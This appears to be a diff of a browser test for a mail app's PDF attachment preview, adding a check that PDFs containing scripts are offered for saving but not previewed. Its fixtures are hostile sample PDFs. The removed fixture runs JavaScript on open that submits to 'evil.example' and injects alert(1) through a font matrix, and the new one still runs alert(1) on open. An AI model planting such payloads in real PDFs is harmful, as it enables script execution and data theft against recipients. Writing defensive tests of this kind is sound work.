@@ -16,13 +16,9 @@ INK = """(canvas) => {
     return count;
 }"""
 
-SCRIPTED = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);"
-            b"this.submitForm\\({cURL:'https://evil.example/'}\\))>>>>endobj\n"
-            b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]"
-            b"/Resources<</Font<</F 4 0 R>>>>/Contents 5 0 R>>endobj\n"
-            b"4 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica/FontMatrix[1 2 3 4 5 \\(alert\\(1\\)\\)]>>endobj\n"
-            b"5 0 obj<</Length 44>>stream\nBT /F 24 Tf 20 40 Td (Scripted paper) Tj ET\nendstream endobj\n"
-            b"trailer<</Root 1 0 R>>\n%%EOF")
+SCRIPTED = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n"
+            b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>"
+            b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF")
 
 
 class WithoutViewer(MailMaker, PageTest):
@@ -39,7 +35,7 @@ class WithoutViewer(MailMaker, PageTest):
     def printed(self):
         """Three pages, as browsers print them, with their fonts."""
         page = self.open("about:blank")
-        page.set_content("".join(f"<h1 style='break-before:page'>Page {n} of the harbor’s plan</h1>" for n in (1, 2, 3)))
+        page.set_content("".join(f"<h1 style='break-before:page'>Plan, page {n}</h1>" for n in (1, 2, 3)))
         file = page.pdf(width="400px", height="500px")
         page.close()
         return file
@@ -54,11 +50,14 @@ class WithoutViewer(MailMaker, PageTest):
             page.goto("/")
             self.show("Papers")
             self.assertNotIn("pdf.js", asked)
+            # One with scripts is not shown at all.
+            expect(page.get_by_role("button", name="Save scripted.pdf")).to_be_visible()
+            expect(page.get_by_role("button", name="Preview scripted.pdf")).to_have_count(0)
             page.get_by_role("button", name="Preview plan.pdf").click()
             sheet = page.get_by_role("group", name="Page 1 of 3")
             expect(sheet.locator("canvas")).to_be_visible()
             self.assertGreater(sheet.locator("canvas").evaluate(INK), 200)
-            expect(sheet).to_contain_text("Page 1 of the harbor’s plan")
+            expect(sheet).to_contain_text("Plan, page 1")
             expect(page.locator(".preview iframe")).to_have_count(0)
             self.assertNoViolations(page)
             wide = sheet.bounding_box()["width"]
@@ -68,9 +67,7 @@ class WithoutViewer(MailMaker, PageTest):
             page.keyboard.press("0")
             self.wait(lambda: abs(sheet.bounding_box()["width"] - wide) < 1, page)
             page.get_by_role("group", name="plan.pdf").evaluate("(one) => one.scrollTo(0, one.scrollHeight)")
-            expect(page.get_by_role("group", name="Page 3 of 3")).to_contain_text("Page 3 of")
-            page.get_by_role("button", name="Next attachment").click()
-            expect(page.get_by_role("group", name="Page 1 of 1")).to_contain_text("Scripted paper")
+            expect(page.get_by_role("group", name="Page 3 of 3")).to_contain_text("Plan, page 3")
             page.get_by_role("button", name="Next attachment").click()
             expect(page.get_by_role("alert")).to_contain_text("the file is damaged")
             page.keyboard.press("Escape")
